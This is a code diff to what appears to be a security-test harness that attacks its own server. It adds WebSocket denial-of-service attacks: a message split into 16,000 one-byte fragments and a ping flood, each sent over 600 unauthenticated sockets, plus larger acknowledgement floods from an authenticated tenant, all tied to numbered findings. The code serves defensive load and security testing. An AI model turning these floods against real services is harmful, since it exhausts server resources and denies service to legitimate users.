@@ -5,7 +5,7 @@ import { connect, type Socket } from "node:net"
 import { setTimeout as sleep } from "node:timers/promises"
 import { ATTACKER_ADDRESSES } from "../DefenseRig.ts"
 import { requestBytes } from "../HttpConnection.ts"
-import { handshakeHeaders, textFrame } from "../WebSocketFrame.ts"
+import { frameBytes, handshakeHeaders, OPCODE, textFrame } from "../WebSocketFrame.ts"
 import { type Attack, type AttackStage, inParallel } from "./Attack.ts"
 
 const [ATTACKER] = ATTACKER_ADDRESSES
@@ -62,10 +62,31 @@ const realtimeToken = async ({ rig }: AttackStage): Promise<string> => {
 
 const ACKS_PER_WRITE = 200
 
-/** Authenticates 10 sockets, and sends acknowledgements on each once it is `ready`, for as long as the server keeps it. */
+const frame = (opcode: number, payload: string): Buffer =>
+  frameBytes({ isFinal: opcode >= OPCODE.close, reserved: 0, opcode, isMasked: true, payload })
+
+/** A message that never ends, in fragments of one byte. */
+const FRAGMENTS = Buffer.concat([
+  frame(OPCODE.text, "{"),
+  ...Array.from({ length: 16_000 }, () => frame(OPCODE.continuation, " "))
+])
+const PINGS = Buffer.concat(Array.from({ length: 16_000 }, () => frame(OPCODE.ping, "")))
+
+/** Sends the bytes repeatedly, until the server closes the socket or reads no further. */
+const pour = async ({ count, signal }: AttackStage, socket: Socket, bytes: Buffer): Promise<void> => {
+  socket.resume()
+  while (!signal.aborted && !socket.destroyed) {
+    count("bytes sent", bytes.length)
+    if (socket.write(bytes)) await sleep(0)
+    else await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined)
+  }
+}
+
+/** Authenticates sockets, and sends acknowledgements on each once it is `ready`, for as long as the server keeps it. */
 const floodWithAcknowledgements = async (
   stage: AttackStage,
-  ready: (socket: Socket) => Promise<void>
+  ready: (socket: Socket) => Promise<void>,
+  connections = 10
 ): Promise<void> => {
   const token = await realtimeToken(stage)
   const acks = Buffer.concat(
@@ -84,8 +105,12 @@ const floodWithAcknowledgements = async (
         else await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined)
       }
     },
-    10
+    connections
   )
+}
+
+const untilReady = async (socket: Socket): Promise<void> => {
+  await Promise.race([once(socket, "data"), once(socket, "close")]).catch(() => undefined)
 }
 
 export const SOCKET_ATTACKS: ReadonlyArray<Attack> = [
@@ -123,10 +148,42 @@ export const SOCKET_ATTACKS: ReadonlyArray<Attack> = [
     name: "acknowledgements",
     finding: 7,
     summary: "acknowledgements of unknown events by one tenant on 10 sockets",
-    run: (stage) =>
-      floodWithAcknowledgements(stage, async (socket) => {
-        await Promise.race([once(socket, "data"), once(socket, "close")]).catch(() => undefined)
-      })
+    run: (stage) => floodWithAcknowledgements(stage, untilReady)
+  },
+  {
+    name: "shared-acknowledgements",
+    finding: 10,
+    summary: "the same on 50 sockets",
+    run: (stage) => floodWithAcknowledgements(stage, untilReady, 50)
+  },
+  {
+    name: "fragments",
+    finding: 3,
+    summary: "a message in 16,000 fragments of one byte on each of 600 sockets, not authenticated",
+    run: (stage) => storm(stage, (socket) => pour(stage, socket, FRAGMENTS), 600)
+  },
+  {
+    name: "tenant-fragments",
+    finding: 3,
+    summary: "the same on 10 sockets of a tenant",
+    run: async (stage) => {
+      const token = await realtimeToken(stage)
+      await storm(
+        stage,
+        async (socket) => {
+          socket.write(textFrame(JSON.stringify({ type: "session.authenticate", token })))
+          await untilReady(socket)
+          await pour(stage, socket, FRAGMENTS)
+        },
+        10
+      )
+    }
+  },
+  {
+    name: "pings",
+    finding: 3,
+    summary: "pings on each of 600 sockets, not authenticated",
+    run: (stage) => storm(stage, (socket) => pour(stage, socket, PINGS), 600)
   },
   {
     name: "early-acknowledgements",
